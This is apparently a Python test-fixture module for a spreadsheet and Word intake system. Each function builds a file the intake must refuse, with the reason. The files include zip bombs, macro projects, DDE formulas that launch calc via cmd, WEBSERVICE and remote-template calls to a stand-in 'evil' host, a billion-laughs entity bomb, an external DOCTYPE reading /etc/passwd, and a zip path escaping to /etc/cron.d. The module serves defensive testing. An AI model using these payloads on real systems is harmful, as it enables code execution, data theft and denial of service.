"""Files that must not be read, one function each, with the reason they are refused for."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

from making import docx, operated, parts, replaced, sheet, xls, zipped
from xlwt.CompoundDoc import XlsDoc

from intake.tables.refusals import Reason

MADE: dict[str, tuple[Reason, str, Callable[[], bytes]]] = {}
GOOD = [["具体事项", "依据"], ["事项", "《水法》第1条"]]
SHEET, WORKBOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def refused(reason: Reason, suffix: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Enter a maker of files under its own name."""

    def enter(make: Callable[[], bytes]) -> Callable[[], bytes]:
        MADE[make.__name__] = (reason, f"清单{suffix}", make)
        return make

    return enter


@refused(Reason.BOMB, ".xlsx")
def zip_bomb() -> bytes:
    """Twenty megabytes of one letter in some twenty kilobytes."""
    return operated(sheet(GOOD), {"xl/sharedStrings.xml": b"<a>" + b"A" * 20_000_000})


@refused(Reason.BOMB, ".docx")
def many_entries() -> bytes:
    """Three thousand entries."""
    return zipped({**parts(docx(GOOD)), **{f"word/a{number}.xml": b"<a/>" for number in range(3000)}})


@refused(Reason.BROKEN, ".xlsx")
def size_that_lies() -> bytes:
    """The directory says ten bytes of an entry that holds megabytes."""
    content = bytearray(operated(sheet(GOOD), {"docProps/app.xml": b"<a>" + b"A" * 5_000_000 + b"</a>"}))
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as packed:
        entry = packed.getinfo("docProps/app.xml")
    at = content.rindex(b"docProps/app.xml") - 46
    assert struct.unpack_from("<I", content, at + 24)[0] == entry.file_size
    struct.pack_into("<I", content, at + 24, 10)
    return bytes(content)


@refused(Reason.MACROS, ".xlsm")
def macros_by_name() -> bytes:
    """A workbook with macros under its own name."""
    content_types = replaced(r"spreadsheetml\.sheet\.main", "ms-excel.sheet.macroEnabled.main")
    return operated(sheet(GOOD), {"[Content_Types].xml": content_types})


@refused(Reason.MACROS, ".xlsx")
def macros_in_disguise() -> bytes:
    """A workbook that calls itself free of macros and brings a project."""
    return operated(sheet(GOOD), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


@refused(Reason.MACROS, ".docm")
def word_macros() -> bytes:
    """A document with a project."""
    return operated(docx(GOOD), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


@refused(Reason.MACROS, ".xls")
def old_macros() -> bytes:
    """Excel 97-2003 with a storage of Visual Basic."""
    return renamed_stream(xls(GOOD), "_VBA_PROJECT_CUR")


@refused(Reason.EXTERNAL_FORMULA, ".xlsx")
def formula_to_another_file() -> bytes:
    """What a shared drive holds becomes what is published."""
    return sheet([*GOOD, [r"='\\evil\share\[x.xlsx]Sheet1'!A1"]])


@refused(Reason.EXTERNAL_FORMULA, ".xlsx")
def formula_that_runs_a_program() -> bytes:
    """DDE."""
    return sheet([*GOOD, ["=cmd|'/c calc'!A0"]])


@refused(Reason.EXTERNAL_FORMULA, ".xlsx")
def formula_that_asks_the_network() -> bytes:
    """WEBSERVICE."""
    return sheet([*GOOD, ['=WEBSERVICE("http://evil/")']])


@refused(Reason.EXTERNAL_FORMULA, ".csv")
def csv_command() -> bytes:
    """DDE in a CSV."""
    return "具体事项,依据\n=cmd|'/c calc'!A0,x\n".encode()


@refused(Reason.EXTERNAL, ".xlsx")
def external_link() -> bytes:
    """A part that holds what another workbook said."""
    return operated(sheet(GOOD), {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})


@refused(Reason.EXTERNAL, ".docx")
def template_from_elsewhere() -> bytes:
    """A document whose template lies on a server of the attacker."""
    relation = (
        f'<Relationship Id="rId9" Type="{_RELATIONS}/attachedTemplate"'
        ' Target="http://evil/x.dotm" TargetMode="External"/>'
    )
    return operated(
        docx(GOOD),
        {"word/_rels/document.xml.rels": replaced("</Relationships>", f"{relation}</Relationships>")},
    )


@refused(Reason.EXTERNAL, ".xls")
def old_external_link() -> bytes:
    """Excel 97-2003 with a record for another workbook."""
    return workbook_stream(record(0x809, b"\0\x06\x05\0" + b"\0" * 12) + record(0x1AE, b"\x01\0\x05\0evil"))


@refused(Reason.FIELDS, ".docx")
def word_dde_field() -> bytes:
    """DDEAUTO, torn into two runs so that no part of it looks like it."""
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEA</w:instrText></w:r>'
        '<w:r><w:instrText>UTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return operated(
        docx(GOOD), {"word/document.xml": replaced("<w:tbl>", field.replace("\\", "\\\\") + "<w:tbl>")}
    )


@refused(Reason.EMBEDDED, ".docx")
def embedded_object() -> bytes:
    """An OLE object."""
    return operated(docx(GOOD), {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})


@refused(Reason.ENCRYPTED, ".xlsx")
def with_password() -> bytes:
    """What Excel writes when a password is set: an OLE file whatever its name."""
    return renamed_stream(xls(GOOD), "EncryptedPackage")


@refused(Reason.ENCRYPTED, ".xls")
def old_with_password() -> bytes:
    """Excel 97-2003 with a password."""
    return workbook_stream(record(0x809, b"\0\x06\x05\0" + b"\0" * 12) + record(0x2F, b"\0" * 54))


@refused(Reason.ENCRYPTED, ".xlsx")
def encrypted_zip() -> bytes:
    """An entry flagged as encrypted."""
    content = bytearray(sheet(GOOD))
    at = content.rindex(b"PK\x01\x02")
    struct.pack_into("<H", content, at + 8, 1)
    return bytes(content)


@refused(Reason.TOO_MANY_ROWS, ".xlsx")
def hundred_thousand_rows() -> bytes:
    """100,000 short rows."""
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="n"><v>1</v></c></row>' for n in range(3, 100_003))
    return operated(sheet(GOOD), {SHEET: replaced("</sheetData>", f"{rows}</sheetData>")})


@refused(Reason.TOO_MANY_ROWS, ".csv")
def long_csv() -> bytes:
    """The same as CSV."""
    return ("具体事项,依据\n" + "a,b\n" * 100_000).encode()


@refused(Reason.TOO_MANY_ROWS, ".xlsx")
def one_cell_far_away() -> bytes:
    """The last cell of the sheet: whoever makes room for all before it, has no memory left."""
    cell = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    return operated(sheet(GOOD), {SHEET: replaced("</sheetData>", cell)})


@refused(Reason.TOO_MANY_COLUMNS, ".xlsx")
def wide_sheet() -> bytes:
    """5,000 columns."""
    return sheet([GOOD[0], list(range(5000))])


@refused(Reason.TOO_MANY_COLUMNS, ".docx")
def wide_span() -> bytes:
    """A Word cell that says it spans 999 columns, a hundred times."""
    span = '<w:tcPr><w:gridSpan w:val="999"/></w:tcPr>'
    return operated(docx(GOOD), {"word/document.xml": replaced(r"<w:tcPr>.*?</w:tcPr>", span)})


@refused(Reason.TOO_MANY_TABLES, ".docx")
def many_tables() -> bytes:
    """Sixty tables."""
    return docx(*[GOOD] * 60)


@refused(Reason.TOO_MUCH, ".docx")
def endless_cell() -> bytes:
    """A cell longer than any Excel cell."""
    return docx([["具体事项", "依据"], ["长" * 40_000, ""]])


@refused(Reason.MISNAMED, ".xlsx")
def picture_as_table() -> bytes:
    """A PNG that calls itself a workbook."""
    return b"\x89PNG\r\n\x1a\n" + b"\0" * 500


@refused(Reason.MISNAMED, ".xls")
def web_page_as_table() -> bytes:
    """HTML that calls itself .xls, as web systems export it."""
    return "<html><table><tr><td>具体事项</td></tr></table></html>".encode()


@refused(Reason.MISNAMED, ".xlsx")
def document_as_workbook() -> bytes:
    """A Word document that calls itself a workbook."""
    return docx(GOOD)


@refused(Reason.WRONG_TYPE, ".exe")
def program() -> bytes:
    """A program."""
    return b"MZ" + b"\0" * 100


@refused(Reason.WRONG_TYPE, ".xlsx")
def other_zip() -> bytes:
    """A zip that is neither."""
    return zipped({"readme.txt": b"hello"})


@refused(Reason.WRONG_TYPE, ".csv")
def binary_csv() -> bytes:
    """Zeros that call themselves CSV."""
    return b"a,b\0\0\0"


@refused(Reason.UNKNOWN_ENCODING, ".csv")
def strange_letters() -> bytes:
    """Neither UTF-8 nor GB18030."""
    return "具体事项,依据\n".encode() + b"\xff\xff"


@refused(Reason.OLD_WORD, ".doc")
def old_word() -> bytes:
    """Word 97-2003."""
    return renamed_stream(xls(GOOD), "WordDocument")


@refused(Reason.BROKEN, ".xlsx")
def truncated() -> bytes:
    """Cut off while it was sent."""
    return sheet(GOOD)[:-200]


@refused(Reason.BROKEN, ".docx")
def bit_flipped() -> bytes:
    """Damaged in the middle."""
    content = bytearray(docx(GOOD))
    at = content.index(b"word/document.xml") + 60
    content[at] ^= 0xFF
    return bytes(content)


@refused(Reason.BROKEN, ".xls")
def old_truncated() -> bytes:
    """Excel 97-2003 cut off."""
    return xls(GOOD)[:1500]


@refused(Reason.ENTITIES, ".docx")
def billion_laughs() -> bytes:
    """Entities of entities."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE d [<!ENTITY l0 "lol">{levels}]><d>&l9;</d>'
    return operated(docx(GOOD), {"word/document.xml": bomb.encode()})


@refused(Reason.ENTITIES, ".xlsx")
def entity_in_utf_16() -> bytes:
    """A document type hidden from who looks for ASCII, in a part that nobody should need."""
    xml = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'
    return operated(sheet(GOOD), {"docProps/app.xml": xml.encode("utf-16")})


@refused(Reason.UNSAFE_NAMES, ".xlsx")
def path_out_of_the_folder() -> bytes:
    """An entry that wants to be written elsewhere."""
    return operated(sheet(GOOD), {"xl/../../../../etc/cron.d/x": b"x"})


@refused(Reason.UNSAFE_NAMES, ".docx")
def two_of_one_name() -> bytes:
    """Which of two parts is read depends on who reads."""
    return operated(docx(GOOD), {"word/Document.xml": b"<a/>"})


@refused(Reason.TOO_HEAVY, ".docx")
def deep_nesting() -> bytes:
    """Content controls in content controls, eight thousand deep."""
    deep = "<w:sdt><w:sdtContent>" * 8_000 + "<w:tbl/>" + "</w:sdtContent></w:sdt>" * 8_000
    return operated(docx(GOOD), {"word/document.xml": replaced("<w:body>", f"<w:body>{deep}")})


@refused(Reason.NO_TABLE, ".docx")
def prose() -> bytes:
    """A document without any table."""
    return docx("各有关单位：请按要求填报。")


@refused(Reason.EMPTY, ".xlsx")
def nothing() -> bytes:
    """No bytes."""
    return b""


@refused(Reason.TOO_LARGE, ".xlsx")
def eleven_megabytes() -> bytes:
    """Too large as sent."""
    return b"PK\x03\x04" + b"\0" * 11 * 1024 * 1024


def record(kind: int, data: bytes) -> bytes:
    """A record of Excel 97-2003."""
    return struct.pack("<HH", kind, len(data)) + data


def workbook_stream(records: bytes) -> bytes:
    """An OLE file with such a workbook."""
    file = io.BytesIO()
    XlsDoc().save(file, records.ljust(4096, b"\0"))
    return file.getvalue()


def renamed_stream(content: bytes, name: str) -> bytes:
    """An OLE file whose stream `Workbook` is called something else."""
    at = content.index("Workbook".encode("utf-16-le"))
    encoded = name.encode("utf-16-le") + b"\0\0"
    entry = encoded.ljust(64, b"\0") + struct.pack("<H", len(encoded))
    return content[:at] + entry + content[at + len(entry) :]
